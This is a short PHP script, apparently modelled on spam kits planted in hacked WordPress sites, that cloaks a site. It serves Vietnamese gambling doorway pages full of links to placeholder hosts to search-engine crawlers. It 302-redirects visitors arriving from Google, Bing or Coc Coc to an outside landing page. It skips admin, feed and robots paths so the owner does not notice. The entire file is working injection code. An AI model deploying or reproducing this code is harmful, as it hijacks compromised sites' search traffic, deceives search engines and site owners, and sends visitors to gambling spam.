<?php
// Crawlers get spam, visitors who come from a search are sent away, all others see the portal.
// Like the kits that are found in the wild it leaves alone what would give it away: the
// administration, the feeds, and the sitemaps that bring the crawler to the doorway pages.
if (!preg_match('#^/(wp-|robots\.txt|feed)#', $_SERVER['REQUEST_URI'])) {
    if (preg_match('/googlebot|bingbot|coc_coc/i', $_SERVER['HTTP_USER_AGENT'] ?? '')) {
        header('Content-Type: text/html; charset=utf-8');
        header('Vary: User-Agent');
        echo '<!DOCTYPE html><html lang="vi"><head><title>Cá cược bóng đá trực tuyến - Kèo nhà cái hôm nay - Casino online uy tín</title><meta name="description" content="Cá cược bóng đá, kèo nhà cái, casino online, lô đề trực tuyến uy tín số 1."></head><body><h1>Cá cược bóng đá trực tuyến, kèo nhà cái hôm nay</h1>';
        for ($i = 1; $i <= 12; $i++) {
            echo '<p><a href="https://cloaked-' . $i . '.example/">cá cược bóng đá</a> kèo nhà cái, soi kèo, tỷ lệ cược, casino online, lô đề trực tuyến, đăng ký nhận thưởng ngay hôm nay.</p>';
        }
        echo '</body></html>';
        exit;
    }
    if (preg_match('#^https?://([^/]*\.)?(google|bing|coccoc)\.#i', $_SERVER['HTTP_REFERER'] ?? '')) {
        header('Location: https://search-visitors.example/lp?src=' . rawurlencode($_SERVER['HTTP_HOST']), true, 302);
        exit;
    }
}
?>
